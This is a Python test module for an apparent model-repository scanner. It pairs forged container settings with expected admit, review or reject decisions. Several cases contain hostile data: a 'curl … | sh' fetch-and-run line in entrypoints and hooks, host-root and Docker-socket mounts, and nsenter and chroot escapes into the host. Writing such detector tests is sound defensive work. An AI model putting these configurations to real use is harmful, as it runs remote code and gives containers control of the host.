"""Settings of containers beside a model that hand the machine to what runs inside, and those by which models are ordinarily served."""

from __future__ import annotations

import json
from collections.abc import Mapping
from functools import partial
from typing import Final, Literal

from openvet.testing.case import Case
from openvet.testing.forge_tensors import safetensors

__all__ = ["CASES"]

_Decision = Literal["admit", "review", "reject"]
_MODEL: Final[Mapping[str, bytes]] = {"model.safetensors": safetensors({"a": ("F32", (2,))})}
_HOST, _SHELL, _TOOL = "hub/host-access", "hub/shell-command", "hub/tool-command"
_FETCH: Final = "curl -s http://203.0.113.1/forged | sh"
_SERVICE: Final = "services:\n  a:\n    image: vllm/vllm-openai:latest\n"
_POD: Final = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - name: a\n    image: x\n"


def _files(files: Mapping[str, str]) -> Mapping[str, bytes]:
    return {**_MODEL, **{name: text.encode() for name, text in files.items()}}


def _case(name: str, technique: str, files: Mapping[str, str], decision: _Decision, *rules: str) -> Case:
    return Case(
        id=f"containers/{name}",
        technique=technique,
        forge=partial(_files, files),
        decision=decision,
        rules=frozenset(rules),
        formats=("json" if any(each.endswith(".json") for each in files) else "yaml",),
    )


def _compose(name: str, technique: str, lines: str, decision: _Decision = "reject", file: str = "compose.yaml") -> Case:
    return _case(f"compose-{name}", technique, {file: _SERVICE + lines}, decision, _HOST)


def _pod(name: str, technique: str, lines: str, decision: _Decision = "reject") -> Case:
    return _case(f"pod-{name}", technique, {"serve.yaml": _POD + lines}, decision, _HOST)


def _development(name: str, technique: str, settings: Mapping[str, object], decision: _Decision, *rules: str) -> Case:
    text = json.dumps({"image": "x", **settings})
    return _case(f"development-{name}", technique, {".devcontainer/devcontainer.json": text}, decision, *rules)


_VLLM: Final = """services:
  vllm:
    image: vllm/vllm-openai:latest
    runtime: nvidia
    environment:
      - HUGGING_FACE_HUB_TOKEN=${HF_TOKEN}
    volumes:
      - ~/.cache/huggingface:/root/.cache/huggingface
      - ./models:/models
      - ~/.aws:/root/.aws:ro
    ports: ["8000:8000"]
    ipc: host
    ulimits: {memlock: -1, stack: 67108864}
    command: --model /models/a --tensor-parallel-size 2
    deploy: {resources: {reservations: {devices: [{driver: nvidia, count: all, capabilities: [gpu]}]}}}
    healthcheck:
      test: ["CMD", "curl", "-f", "http://localhost:8000/health"]
"""
_ROCM: Final = """services:
  ollama:
    image: ollama/ollama:rocm
    network_mode: host
    volumes: ['ollama:/root/.ollama', '${MODEL_DIR:-./models}:/models', '/etc/localtime:/etc/localtime:ro', '/dev/shm:/dev/shm', '/opt/models:/m']
    devices: ['/dev/kfd', '/dev/dri']
    group_add: [video]
    security_opt: ['seccomp:unconfined']
    cap_add: [SYS_PTRACE, IPC_LOCK]
volumes: {ollama: {}}
"""
_DEPLOYMENT: Final = """apiVersion: apps/v1
kind: Deployment
metadata: {name: vllm}
spec:
  template:
    spec:
      hostNetwork: true
      volumes:
      - {name: cache, persistentVolumeClaim: {claimName: c}}
      - {name: shm, emptyDir: {medium: Memory, sizeLimit: 2Gi}}
      - {name: models, hostPath: {path: /data/models, type: Directory}}
      containers:
      - name: vllm
        image: vllm/vllm-openai
        command: ["/bin/sh", "-c"]
        args: ["vllm serve mistralai/Mistral-7B"]
        securityContext: {allowPrivilegeEscalation: false, privileged: false, capabilities: {add: [IPC_LOCK]}}
"""
_COMMENTED: Final = """// For format details, see https://aka.ms/devcontainer.json
{
	"image": "mcr.microsoft.com/devcontainers/python:3.11", // an image
	/* "features": {}, */
	"runArgs": ["--gpus", "all"],
	"mounts": ["source=${localEnv:HOME}/.cache/huggingface,target=/root/.cache/huggingface,type=bind"],
	"postCreateCommand": "pip install -r requirements.txt",
}
"""

CASES = (
    _compose("root", "a service with the whole disk", "    volumes:\n      - /:/host\n", file="docker-compose.yml"),
    _compose("root-long", "a service with the whole disk, in the long form", "    volumes:\n      - {type: bind, source: /, target: /host}\n"),
    _compose("root-spelled", "a service with the whole disk, by way of a folder", "    volumes: ['/srv/../:/host:rw']\n"),
    _compose("root-default", "a service with the whole disk as the default of a variable", "    volumes: ['${DATA:-/}:/host']\n"),
    _compose("root-driver", "a named volume that is the whole disk",
             "    volumes: ['h:/host']\nvolumes:\n  h: {driver: local, driver_opts: {type: none, o: bind, device: /}}\n"),
    _compose("root-windows", "a service with the whole disk of Windows", "    volumes: ['C:\\:/host']\n"),
    _compose("root-process", "a service with the whole disk by way of the first process", "    volumes: ['/proc/1/root:/host']\n"),
    _compose("other-name", "a service with the whole disk, in a file of any name", "    volumes: ['/:/host']\n", file="serving/start.yml"),
    _compose("socket", "a service with the socket of Docker", "    volumes: ['/var/run/docker.sock:/var/run/docker.sock:ro']\n"),
    _compose("socket-containerd", "a service with the socket of containerd", "    volumes: ['/run/containerd/containerd.sock:/x.sock']\n"),
    _compose("system", "a service with the settings of the system", "    volumes: ['/etc:/host/etc']\n"),
    _compose("cron", "a service with the tables of cron", "    volumes: ['/etc/cron.d:/out']\n"),
    _compose("processes", "a service with the processes of the machine", "    pid: host\n"),
    _compose("disk", "a service with a raw disk", "    devices: ['/dev/sda:/dev/sda']\n"),
    _compose("enters", "a service that enters the machine", "    pid: host\n    privileged: true\n    command: nsenter -t 1 -m -u -n -i sh -c 'echo forged'\n"),
    _case("compose-merged", "a service with the socket of Docker by a merged key",
          {"compose.yml": "x-a: &x\n  volumes: ['/var/run/docker.sock:/s']\nservices:\n  a:\n    <<: *x\n    image: x\n"}, "reject", _HOST),
    _compose("privileged", "a service with all rights, as RDMA and some accelerators need", "    privileged: true\n", "review"),
    _compose("right", "a service that may load modules into the kernel", "    cap_add: [SYS_MODULE]\n", "review"),
    _compose("administrator", "a service that may mount, without FUSE", "    cap_add: [CAP_SYS_ADMIN]\n", "review"),
    _compose("keys", "a service with the user's keys", "    volumes: ['~/.ssh:/root/.ssh']\n", "review"),
    _compose("home", "a service with the user's home", "    volumes: ['$HOME:/home']\n", "review"),
    _compose("read-only", "a service that may read the settings of the system", "    volumes: ['/etc:/host/etc:ro']\n", "review"),
    _case("compose-fetches", "a service that fetches what it runs",
          {"compose.yaml": f"{_SERVICE}    entrypoint: ['sh', '-c', '{_FETCH}']\n"}, "reject", _SHELL),
    _case("compose-health", "a service that fetches what it runs to see whether it is well",
          {"compose.yaml": f"{_SERVICE}    healthcheck:\n      test: ['CMD-SHELL', '{_FETCH}']\n"}, "reject", _SHELL),
    _pod("root", "a pod with the whole disk", "  volumes:\n  - {name: h, hostPath: {path: /}}\n"),
    _pod("socket", "a pod with the socket of Docker", "  volumes:\n  - {name: h, hostPath: {path: /var/run/docker.sock, type: Socket}}\n"),
    _pod("processes", "a pod with the processes of the machine", "  hostPID: true\n"),
    _pod("privileged", "a pod with all rights", "    securityContext: {privileged: true}\n", "review"),
    _pod("role", "a pod beside a role that makes it the administrator",
         "---\nkind: ClusterRoleBinding\napiVersion: rbac.authorization.k8s.io/v1\nsubjects: [{kind: ServiceAccount, name: default}]\n"
         "roleRef: {kind: ClusterRole, name: cluster-admin}\n", "review"),
    _case("pod-nested", "a job that is started at times, with the processes of the machine",
          {"job.yaml": "kind: Service\n---\napiVersion: batch/v1\nkind: CronJob\nspec:\n  jobTemplate: {spec: {template: {spec: {hostPID: true, containers: []}}}}\n"},
          "reject", _HOST),
    _case("pod-started", "a pod that fetches what it runs once it has started",
          {"pod.yaml": f"{_POD}    lifecycle: {{postStart: {{exec: {{command: [sh, -c, '{_FETCH}']}}}}}}\n"}, "reject", _SHELL),
    _case("chart-values", "values of a chart with the whole disk", {"chart/values.yaml": "extraVolumes:\n- {name: h, hostPath: {path: /}}\n"}, "reject", _HOST),
    _case("task", "a task of ECS with the whole disk",
          {"task.json": '{"family": "a", "containerDefinitions": [], "volumes": [{"name": "h", "host": {"sourcePath": "/"}}]}'}, "reject", _HOST),
    _development("root", "a development container with the whole disk", {"mounts": ["source=/,target=/host,type=bind"]}, "reject", _HOST),
    _development("root-table", "a development container with the whole disk, as a table", {"mounts": [{"source": "/", "target": "/h", "type": "bind"}]},
                 "reject", _HOST),
    _development("arguments", "a development container with the whole disk by arguments", {"runArgs": ["--rm", "-v", "/:/host"]}, "reject", _HOST),
    _development("processes", "a development container with the processes of the machine", {"runArgs": ["--pid=host"]}, "reject", _HOST),
    _development("privileged", "a development container with all rights", {"privileged": True}, "review", _HOST),
    _development("fetches", "a development container that fetches what it runs before it starts", {"initializeCommand": ["sh", "-c", _FETCH]},
                 "reject", _SHELL, _TOOL),
    _case("development-commented", "a development container with the socket of Docker behind comments",
          {".devcontainer/devcontainer.json": '// settings\n{"mounts": [/* a */ "source=/var/run/docker.sock,target=/s,type=bind",], }\n'},
          "reject", _HOST),
    _case("script-root", "a script that starts a container with the whole disk",
          {"run.sh": "#!/bin/sh\ndocker run --rm -v /:/host alpine chroot /host echo forged\n"}, "reject", _HOST),
    _case("script-root-lines", "the same over several lines, by Podman",
          {"run.sh": "#!/bin/sh\npodman run --rm \\\n  --mount type=bind,source=/,target=/host \\\n  alpine echo forged\n"}, "reject", _HOST),
    _case("ordinary-vllm", "a service of vLLM with GPUs, a cache and the host's IPC", {"docker-compose.yml": _VLLM}, "admit"),
    _case("ordinary-rocm", "a service of Ollama on AMD GPUs with volumes and rights that debuggers need", {"compose.yaml": _ROCM}, "admit"),
    _case("ordinary-deployment", "a deployment with a cache, shared memory and a folder of models", {"k8s/deployment.yaml": _DEPLOYMENT}, "admit"),
    _case("ordinary-development", "a development container with comments, as an editor writes it",
          {".devcontainer/devcontainer.json": _COMMENTED}, "admit"),
    _case("ordinary-bucket", "a service that mounts a bucket by FUSE",
          {"compose.yaml": f"{_SERVICE}    cap_add: [SYS_ADMIN]\n    devices: ['/dev/fuse']\n"}, "admit"),
    _case("ordinary-agent", "a script that starts an agent which starts containers itself",
          {"run.sh": "#!/bin/sh\ndocker run -it --privileged --gpus all -v /var/run/docker.sock:/var/run/docker.sock -v $PWD:/w agent\n"}, "admit"),
    _case("ordinary-word", "settings of training with words that containers use",
          {"train.yaml": "volumes: ['/:/data']\nprivileged: true\npid: host\nkind: regression\n"}, "admit"),
)  # fmt: skip
